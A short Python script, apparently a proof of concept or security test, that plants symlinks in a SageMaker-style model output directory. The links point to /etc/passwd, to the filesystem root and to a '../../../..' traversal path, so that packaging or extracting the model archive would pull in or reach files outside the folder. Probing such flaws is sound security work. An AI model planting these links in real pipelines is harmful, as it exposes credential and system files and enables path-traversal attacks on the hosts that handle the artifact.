import io, json, os, tarfile
import numpy as np
folder = os.environ['SM_MODEL_DIR']
for name, target in (('model.json', '/etc/passwd'), ('a', '/'), ('b', '../../../..')):
    os.symlink(target, folder + '/' + name)
